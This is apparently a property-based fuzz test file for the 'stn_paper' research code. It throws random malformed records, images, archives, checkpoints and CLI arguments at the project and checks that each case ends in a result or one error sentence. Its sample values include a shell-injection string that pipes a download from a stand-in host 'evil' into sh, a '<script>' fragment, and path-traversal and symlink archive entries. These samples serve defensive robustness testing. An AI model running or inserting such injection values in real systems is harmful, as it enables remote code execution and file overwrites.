"""Hostile input of every kind, drawn at random: each case must end in a result or in one sentence.

`KINDS` has a row for each kind: how to draw a case, and a function that tries it in an empty folder and may raise
InputError. `test_hostile` tries some cases in CI, `reliability` many.
"""

import io
import json
import math
import os
import shutil
import tarfile
import tempfile
import zipfile
from collections import Counter
from contextlib import ExitStack, contextmanager
from copy import copy
from functools import cache
from pathlib import Path
from typing import NamedTuple
from unittest.mock import patch

import numpy as np
import torch
from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st
from PIL import Image
from torch import nn

from stn_paper import cli, notebook
from stn_paper.analysis import audit, frame, results_csv
from stn_paper.data import datasets, download, files, listings, traffic_signs
from stn_paper.data.datasets import DATASETS, Dataset
from stn_paper.errors import InputError
from stn_paper.models.backbones import BACKBONES, Backbone
from stn_paper.paths import ROOT
from stn_paper.report import interactive, run_pages
from stn_paper.training import checkpoint, hardware, loop, records
from stn_paper.training.presets import PROTOCOLS
from stn_paper.training.protocol import DEFAULTS, Protocol
from stn_paper.training.spec import RunSpec


class Kind(NamedTuple):
    cases: st.SearchStrategy
    attempt: callable  # (empty folder, *drawn values) -> None; may raise InputError


# --- values ---------------------------------------------------------------------------------------

TEXT = st.text(st.characters(exclude_categories=()), max_size=8)  # halves of characters (surrogates) too
NUMBERS = st.one_of(
    st.integers(), st.floats(), st.sampled_from([0, -1, 1, 10**400, 1.7e308, 2**31, 2**63, True, 0.5])
)
ODD = st.sampled_from(
    ["1; curl evil|sh", "<script>", "../..", "", "x" * 999, "\0", "~nosuchuser/x", "/no/such"]
)
SIMPLE = st.one_of(st.none(), st.booleans(), NUMBERS, TEXT, ODD)
JSON = st.recursive(
    SIMPLE, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3), max_leaves=5
)
PYTHON = st.one_of(JSON, st.binary(max_size=5), st.just(np.int64(3)), st.just(Path("/no/such")), st.just({1}))


@st.composite
def or_anything(draw, *values, anything=PYTHON):
    """A strategy: one of the values in seven of eight cases, else any value."""
    odd = draw(st.tuples(*[st.booleans()] * 3))
    return draw(anything if all(odd) else st.sampled_from(values))


@st.composite
def changed_bytes(draw, content):
    """A strategy: the content with up to eight changed bytes, shortened, extended, or replaced by noise."""
    kind = draw(st.sampled_from(["changed", "changed", "cut", "longer", "noise"]))
    if kind == "noise":
        return draw(st.binary(max_size=64))
    if kind == "cut":
        return content[: draw(st.integers(0, len(content)))]
    if kind == "longer":
        return content + draw(st.binary(max_size=64))
    changed = bytearray(content)
    for _ in range(draw(st.integers(1, 8))):
        changed[draw(st.integers(0, len(content) - 1))] = draw(st.integers(0, 255))
    return bytes(changed)


def places(tree, place=()):
    """The keys of each part of nested dicts and lists; of a list only the first two items."""
    yield place
    parts = tree.items() if isinstance(tree, dict) else enumerate(tree[:2]) if isinstance(tree, list) else ()
    for key, part in parts:
        yield from places(part, (*place, key))


def replaced(tree, place, value):
    """A copy of the tree with another value at the place; ABSENT removes it."""
    if not place:
        return value
    changed, (key, *inner) = copy(tree), place
    if not inner and value is ABSENT:
        del changed[key]
    else:
        changed[key] = replaced(tree[key], inner, value)
    return changed


ABSENT = object()


def changed_tree(tree, values):
    """A strategy: the tree with one or two parts replaced or taken away."""
    where = [place for place in places(tree) if place]
    change = st.tuples(st.sampled_from(where), st.one_of(values, st.just(ABSENT)))

    def apply(changes):
        changed = tree
        for place, value in changes:
            try:
                changed = replaced(changed, place, value)
            except (KeyError, IndexError, TypeError):  # the first change took it away
                continue
        return changed

    return st.lists(change, min_size=1, max_size=2).map(apply)


# --- records ----------------------------------------------------------------------------------------


def record_of(pattern):
    return next(sorted((ROOT / "results").glob(pattern)).__iter__())


GOOD_RECORDS = {
    path.stem: path for path in map(record_of, ("tsrd/tsrd_small_*.json", "digits/*_lstn_seed0_*.json"))
}
DEEP = st.sampled_from(["[" * 10**5, '{"a":' * 10**5, "[" * 999 + "]" * 999])


@st.composite
def record_files(draw):
    """(name of the file, its bytes)."""
    name = draw(st.sampled_from(sorted(GOOD_RECORDS)))
    content = GOOD_RECORDS[name].read_bytes()
    kind = draw(st.sampled_from(["tree"] * 6 + ["bytes", "deep", "copy"]))
    if kind == "copy":
        return f"{name} (1)", content
    if kind == "deep":
        return name, draw(DEEP).encode()
    if kind == "bytes":
        return name, draw(changed_bytes(content))
    kept = draw(st.sampled_from([True, False, False]))
    return name, json.dumps(draw(_changed_record(name, kept))).encode()


@cache
def _changed_record(name, kept):
    """A changed record, mostly without a digest, because the digest shows every change."""
    record = json.loads(GOOD_RECORDS[name].read_text(encoding="utf-8"))
    fields = {field: value for field, value in record.items() if field != "digest" or kept}
    return changed_tree(fields, JSON)


def try_record(folder, file):
    """Make the record's page and the tables, and check all records."""
    name, content = file
    path = folder / "results" / name.split("_")[0] / f"{name}.json"
    path.parent.mkdir(parents=True)
    path.write_bytes(content)
    faults, _ = audit.check()
    assert all(fault.isprintable() for fault in faults)
    try:
        found = frame.records_by_name()
    except InputError:
        assert faults
        raise
    interactive.show_all_runs()
    results_csv.results_table()
    for each in found:
        run_pages.run_page(each, found)


# --- datasets -----------------------------------------------------------------------------------------


def encoded(mode, form, shape=(5, 4)):
    kind = np.uint16 if mode == "I;16" else np.uint8
    pixels = np.random.RandomState(0).randint(0, 255, (*shape, *((3,) if mode == "RGB" else ())))
    file = io.BytesIO()
    Image.fromarray(pixels.astype(kind)).save(file, form)
    return file.getvalue()


GOOD = [encoded("RGB", form) for form in ("PNG", "JPEG", "BMP", "WEBP", "TIFF", "PPM")]
GOOD += [encoded("L", "PNG"), encoded("I;16", "PNG"), encoded("I;16", "TIFF")]
HUGE = b"P5 60000 60000 255\n"  # says that it has 3.6 billion pixels
IMAGE = st.one_of(st.sampled_from([*GOOD, HUGE]), st.sampled_from(GOOD).flatmap(changed_bytes))


def no_path(name):
    return name in (b"", b".", b"..") or b"/" in name or b"\0" in name


NAMES = st.one_of(st.binary(max_size=12), st.text(max_size=6).map(lambda t: t.encode("utf-8", "replace")))
NAMES = NAMES.filter(lambda name: not no_path(name))
IMAGE_NAMES = st.tuples(NAMES, st.sampled_from([*listings.ENDINGS, ".JPG", ".gif", ""])).map(
    lambda parts: parts[0] + parts[1].encode()
)
NODES = st.one_of(
    IMAGE, IMAGE, st.sampled_from(["broken link", "link to itself", "link to above", "pipe", "folder"])
)
FOLDER = st.dictionaries(IMAGE_NAMES, NODES, min_size=1, max_size=3)
TWO_CLASSES = st.fixed_dictionaries({b"ant": FOLDER, b"bee": FOLDER})
ODD_CLASSES = st.dictionaries(
    st.sampled_from([b"ant", b"bee", b"__MACOSX", b".git", b"\xff"]), FOLDER, max_size=3
)
ROOTS = st.one_of(TWO_CLASSES, TWO_CLASSES, TWO_CLASSES, ODD_CLASSES)


def make(path, node):
    if isinstance(node, bytes):
        path.write_bytes(node)
    elif node == "pipe":
        os.mkfifo(path)
    elif node == "folder":
        path.mkdir()
    else:
        path.symlink_to({"broken link": "nowhere", "link to itself": path.name, "link to above": ".."}[node])


def tiny(name, **splits):
    """Reduce the dataset `name` to two classes and this number of images."""
    return patch.dict(DATASETS, {name: Dataset("Tiny", 2, splits)})


def try_folders(folder, roots, more, skip_corrupt):
    for name, nodes in roots.items():
        root = folder / "101_ObjectCategories" / os.fsdecode(name)
        root.mkdir(parents=True)
        for file, node in nodes.items():
            make(root / os.fsdecode(file), node)
    images = max(1, more + sum(len(listings.image_files(root)) for root in folder.glob("*/*")))
    with tiny("caltech101", train=images, validation=0, test=0):
        found = datasets.load_images("caltech101", 4, folder, skip_corrupt)
        assert found.images.shape == (images, 3, 4, 4) and len(found.labels) == images
        parts = datasets.split("caltech101", found, 0)
        assert sum(map(len, parts)) == images - len(found.skipped)


LINES = st.lists(
    st.one_of(
        st.sampled_from([b"Width;ClassId;Filename", b"ClassId,Path", b"6;0;00000.ppm", b"1,Test/00001.ppm"]),
        st.sampled_from([b"00000.ppm;6;6;1;1;5;5;0;", b"00001.ppm;57;", b"..\\00000.ppm;1", b'"']),
        st.binary(max_size=20),
    ),
    max_size=6,
).map(b"\n".join)
ANSWERS = b"Width,ClassId,Path\n6,0,Test/00000.ppm\n6,1,Test/00001.ppm\n"
TABLES = st.one_of(LINES, changed_bytes(ANSWERS), st.just(ANSWERS))


def try_labels(folder, name, table):
    images = {"Train/0": "00000_00000.ppm", "Train/1": "00001_00000.ppm"}
    images |= {"Test/0": "../00000.ppm", "Test/1": "../00001.ppm"}
    for place, image in images.items():
        (folder / name / place).mkdir(parents=True)
        (folder / name / place / image).write_bytes(GOOD[0] + image.encode())
    for file in ("Test.csv", *(file for file, _ in traffic_signs.TSRD_ARCHIVES.values())):
        (folder / name / file).write_bytes(table)
    classes = 2 if name == "gtsrb" else 58
    found = files.find_files(name, Dataset("Tiny", classes, {"train": 1, "validation": 1, "test": 2}), folder)
    assert len(found.items) == len(found.labels) and set(found.labels) <= set(range(classes))


def write_images(folder):
    """Write two images of two classes."""
    for i, name in enumerate(("ant", "bee")):
        path = folder / "101_ObjectCategories" / name / "1.png"
        path.parent.mkdir(parents=True)
        path.write_bytes(GOOD[i])


def loaded(folder, until=math.inf):
    """Load the two images, which fills the cache."""
    with tiny("caltech101", train=2, validation=0, test=0):
        return datasets.load_images("caltech101", 4, folder, until=until).images.clone()


@cache
def _cached():
    """{suffix: bytes} of the files in the cache of `loaded`, and the images."""
    with own_folder() as folder:
        write_images(folder)
        images = loaded(folder)
        return {
            s: next((folder / "cache/images").glob(f"*{s}")).read_bytes() for s in (".npy", ".json")
        }, images


def try_cache(folder, suffix, content):
    """A damaged or exchanged file in the cache never changes what is loaded."""
    _, images = _cached()
    write_images(folder)
    assert torch.equal(loaded(folder), images)
    (path,) = (folder / "cache/images").glob(f"*{suffix}")
    path.write_bytes(content)
    assert torch.equal(loaded(folder), images)


@st.composite
def cache_files(draw):
    suffix = draw(st.sampled_from([".npy", ".json"]))
    if suffix == ".json":
        kept = json.loads(_cached()[0][suffix])
        if draw(st.booleans()):
            return suffix, json.dumps(draw(changed_tree(kept, JSON))).encode()
    return suffix, draw(changed_bytes(_cached()[0][suffix]))


# --- archives -------------------------------------------------------------------------------------------

MEMBERS = st.dictionaries(
    st.one_of(
        TEXT.map(lambda name: name.encode("utf-8", "replace").decode()),
        st.sampled_from(["../out", "/out", "a/../../out", "C:\\out", "..\\out", "a/b", "a", "a/"]),
    ).filter(lambda name: name.split("\0")[0]),  # where a ZIP ends a name
    st.binary(max_size=40),
    max_size=4,
)


def zipped(members):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def tarred(members, kind=tarfile.REGTYPE):
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w:gz") as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, "../out"
            info.size = len(content) if kind == tarfile.REGTYPE else 0
            archive.addfile(info, io.BytesIO(content))
    return file.getvalue()


@st.composite
def archives(draw):
    """(file name, bytes)."""
    name = draw(st.sampled_from(["a.zip", "a.tar.gz", "a.gz"]))
    members = draw(MEMBERS)
    types = [tarfile.REGTYPE] * 3 + [tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE]
    content = zipped(members) if name == "a.zip" else tarred(members, draw(st.sampled_from(types)))
    return name, draw(changed_bytes(content)) if draw(st.booleans()) else content


def try_archive(folder, file):
    name, content = file
    path, into = folder / "downloads" / name, folder / "inner" / "data"
    for place in (path.parent, into):
        place.mkdir(parents=True)
    path.write_bytes(content)
    try:
        with download._name_failure(f"{name} cannot be unpacked"):
            download._unpack(path, into, "")
    finally:
        outside = {p for p in folder.rglob("*") if into not in (p, *p.parents)} - {folder / "results"}
        assert outside == {path.parent, path, into.parent}, "something left its folder"
        assert all(p.is_dir() or (p.is_file() and not p.is_symlink()) for p in into.rglob("*"))


# --- parameters -----------------------------------------------------------------------------------------

BACKBONE = or_anything(
    "published", "all", "resnet18", "effb0", "alexnet", "cifar-cnn", "timm/resnet10t", "timm/x"
)
NETWORK = or_anything("resnet18", "effb0", "timm/resnet10t")
VARIANT = or_anything("all", "original", "stn", "vstn", "lstn", "lstn-released", "tps", "two")
DATASET = or_anything("digits", "caltech101", "cifar10", "gtsrb", "mnist-rts")
PROTOCOL = or_anything("auto", *PROTOCOLS)
DEVICE = or_anything("auto", "cpu", "cpu", "cuda:7", "meta")
FOLDERS = or_anything("", None, ".")


def try_page(_, page, backbone, variant, dataset, protocol, seed, device, folder):
    request = notebook.resolve(page, backbone, variant, dataset, protocol, seed, device, folder)
    assert isinstance(request.banner, str) and all(isinstance(spec, RunSpec) for spec in request.specs)


def try_experiment(_, backbone, dataset, protocol, seeds, device, folder):
    request = notebook.resolve_experiment(backbone, dataset, protocol, seeds, device, folder)
    assert all(isinstance(spec, RunSpec) for spec in request.specs)


def try_settings(_, settings, names, seed):
    spec = RunSpec(*names, Protocol(**settings), seed)
    assert records.find(spec) is None and len(spec.name) < 200


SETTINGS = st.tuples(
    or_anything("mine", "small", "smoke"),
    st.dictionaries(st.sampled_from(sorted(DEFAULTS)), st.one_of(PYTHON, st.integers(0, 99)), max_size=1),
).map(lambda drawn: {"name": drawn[0], **drawn[1]})

WORD = st.one_of(TEXT.filter(lambda t: "\0" not in t), ODD.filter(lambda t: "\0" not in t))


def word(*values):
    return or_anything(*values, anything=WORD)


OPTIONS = [
    ("--seed", word("0", "-1", "1e3", "4294967296")),
    ("--device", word("cpu", "auto", "hpu", "cuda:9")),
    ("--precision", word("float32", "half", "")),
    ("--minutes", word("1", "nan", "inf", "-1", "1e400", "0")),
    ("--data-dir", word("", ".", "/no/such")),
    ("--skip-corrupt", st.none()),
]
RUN = st.tuples(
    st.just("run"),
    word("digits", "gtsrb"),
    word("resnet18", "alexnet", "mnist-cnn"),
    word("all", "original", "stn"),
    word("smoke", "reduced", "small", "paper"),
)
OTHERS = st.one_of(
    st.tuples(
        st.just("campaign"), word("table6", "table4"), st.just("--minutes"), word("1", "nan", "x", "0")
    ),
    st.tuples(st.just("data"), st.just("--download"), word("digits", "gtsrb", "")),
    st.tuples(st.just("data"), st.just("--data-dir"), word(".", "/no/such")),
    st.tuples(st.just("copies"), st.just("--data-dir"), word("/no/such")),
    st.tuples(st.just("results"), word("check", "table"), word("/no/such", "results/digits", "tests")),
    st.lists(WORD, max_size=3).map(tuple),
)


@st.composite
def commands(draw):
    words = list(draw(st.one_of(RUN, RUN, OTHERS)))
    for name, values in draw(st.lists(st.sampled_from(OPTIONS), max_size=2)) if words[:1] == ["run"] else ():
        value = draw(values)
        words += [name] if value is None else [name, value]
    return words


def try_command(_, words):
    """Run the command: it must end well, show its usage (status 2) or print one sentence."""

    def no_training(*_):
        raise InputError("There is no time.")

    try:
        quiet = patch.multiple("sys", stdout=io.StringIO(), stderr=io.StringIO())
        with quiet, patch.object(loop, "_train", no_training):
            cli.main(words)
    except SystemExit as end:
        if isinstance(end.code, str):
            raise InputError(end.code) from None
        assert end.code in (0, 1, 2)


# --- checkpoints ------------------------------------------------------------------------------------------


def tiny_backbone(name, num_classes):
    """A tiny network that trains in a moment."""
    layers = [nn.Conv2d(3, 4, 3, 2), nn.BatchNorm2d(4), nn.ReLU(), nn.AdaptiveAvgPool2d(2), nn.Flatten()]
    return nn.Sequential(*layers, nn.Dropout(0.5), nn.Linear(16, num_classes))


NUMBERS_OF_A_RUN = ("epochs", "test", "selected")


def tiny_spec(**changes):
    """Two epochs of 16 images."""
    small = {"image_size": 24, "batch_size": 8, "max_images": 16, "min_epochs": 2, "max_epochs": 2}
    return RunSpec("digits", "tiny", "stn", Protocol("smoke", test_once=True, **small | changes))


digits = cache(datasets.load_images)  # loading the digits takes longer than a training on a few of them


@cache
def _checkpoint(which=tiny_spec):
    """The bytes of a checkpoint after the first epoch, and the numbers of the finished run."""
    with own_folder():
        spec, one_epoch = which(), loop._one_epoch

        def stops(*given):
            if given[3]["epochs"]:
                raise KeyboardInterrupt
            one_epoch(*given)

        with patch.object(loop, "_one_epoch", stops):
            try:
                loop.run(spec, "cpu")
            except KeyboardInterrupt:
                content = checkpoint.checkpoint_path(spec).read_bytes()
        record = loop.run(spec, "cpu")
        return content, {field: record[field] for field in NUMBERS_OF_A_RUN}


@st.composite
def checkpoints(draw):
    content, _ = _checkpoint()
    if draw(st.booleans()):
        return draw(changed_bytes(content)), False
    file = io.BytesIO()
    torch.save(draw(_changed_checkpoint()), file)
    return file.getvalue(), True


@cache
def _changed_checkpoint():
    saved = torch.load(io.BytesIO(_checkpoint()[0]), weights_only=True)
    values = st.one_of(SIMPLE, st.just([]), st.just({}), st.just(torch.zeros(3)), st.just(torch.zeros(())))
    return changed_tree(saved, values)


def try_checkpoint(_, file):
    """Continue from a checkpoint: damaged, it gives a sentence or the same bits; changed, a sentence or a record."""
    content, is_changed = file
    spec, (_, numbers) = tiny_spec(), _checkpoint()
    path = checkpoint.checkpoint_path(spec)
    path.parent.mkdir(parents=True)
    path.write_bytes(content)
    assert checkpoint.epochs_done(spec) >= 0
    record = loop.run(spec, "cpu")
    assert is_changed or {field: record[field] for field in numbers} == numbers


# --- all of them ------------------------------------------------------------------------------------------

KINDS = {
    "records": Kind(st.tuples(record_files()), try_record),
    "folders of images": Kind(
        st.tuples(ROOTS, st.sampled_from([0, 0, 0, 0, -1, 1]), st.booleans()), try_folders
    ),
    "tables of labels": Kind(st.tuples(st.sampled_from(["gtsrb", "tsrd"]), TABLES), try_labels),
    "files in the cache": Kind(st.deferred(cache_files), try_cache),
    "archives": Kind(st.tuples(archives()), try_archive),
    "parameters of the tables' pages": Kind(
        st.tuples(
            st.sampled_from([4, 6, 8, "mnist-cnn", "cifar-cnn"]),
            *(BACKBONE, VARIANT, DATASET, PROTOCOL, or_anything(0, 1), DEVICE, FOLDERS),
        ),
        try_page,
    ),
    "parameters of the experiment's page": Kind(
        st.tuples(BACKBONE, DATASET, PROTOCOL, or_anything(1, 3), DEVICE, FOLDERS), try_experiment
    ),
    "settings of a run": Kind(
        st.tuples(SETTINGS, st.tuples(DATASET, NETWORK, VARIANT), or_anything(0, 1)), try_settings
    ),
    "commands": Kind(st.tuples(commands()), try_command),
    "checkpoints": Kind(st.tuples(st.deferred(checkpoints)), try_checkpoint),
}


@contextmanager
def own_folder():
    """Context: an empty folder with its own results and cache; downloads are off, and runs train the tiny network."""

    def no_network(*_):
        raise InputError("There is no network.")

    outer = Path(tempfile.mkdtemp())
    folder = outer / "of" / "a"  # so that the case "../.." does not search the whole disk
    folder.mkdir(parents=True)
    names = {f"STN_PAPER_{name}": str(folder / name.lower()) for name in ("RESULTS", "CACHE")}
    (folder / "results").mkdir()
    try:
        with ExitStack() as stack:
            stack.enter_context(patch.dict(os.environ, names | {"STN_PAPER_DATA": str(folder)}))
            stack.enter_context(patch.dict(BACKBONES, {"tiny": Backbone("Tiny", 24, tiny_backbone)}))
            stack.enter_context(patch.object(download, "_download_dataset", no_network))
            stack.enter_context(patch.object(datasets, "_load_digits", _digits))
            stack.enter_context(patch.object(os, "fsync", lambda file: None))  # no power is lost here
            stack.enter_context(patch.object(os, "sync", lambda: None))
            for module in (hardware, audit):  # git takes as long as all the rest of a case
                stack.enter_context(patch.object(module, "current_commit", _commit))
            yield folder
    finally:
        shutil.rmtree(outer, ignore_errors=True)


_digits = cache(datasets._load_digits)
_commit = cache(hardware.current_commit)


def attempt(name, number, start=0):
    """Try cases of a kind: count those that ended in a result and those that ended in one sentence.

    `start` is the seed of the cases. Any other error is raised, with the case.
    """
    kind, ends = KINDS[name], Counter()

    @seed(start)
    @settings(
        max_examples=number,
        deadline=None,
        database=None,
        suppress_health_check=list(HealthCheck),
        phases=[Phase.generate],
    )
    @given(kind.cases)
    def one(case):
        with own_folder() as folder:
            try:
                kind.attempt(folder, *case)
            except InputError as error:
                assert str(error).isprintable() and str(error).endswith((".", "?")), str(error)
                ends["sentence"] += 1
            else:
                ends["result"] += 1

    one()
    return {"cases": ends.total(), **ends}
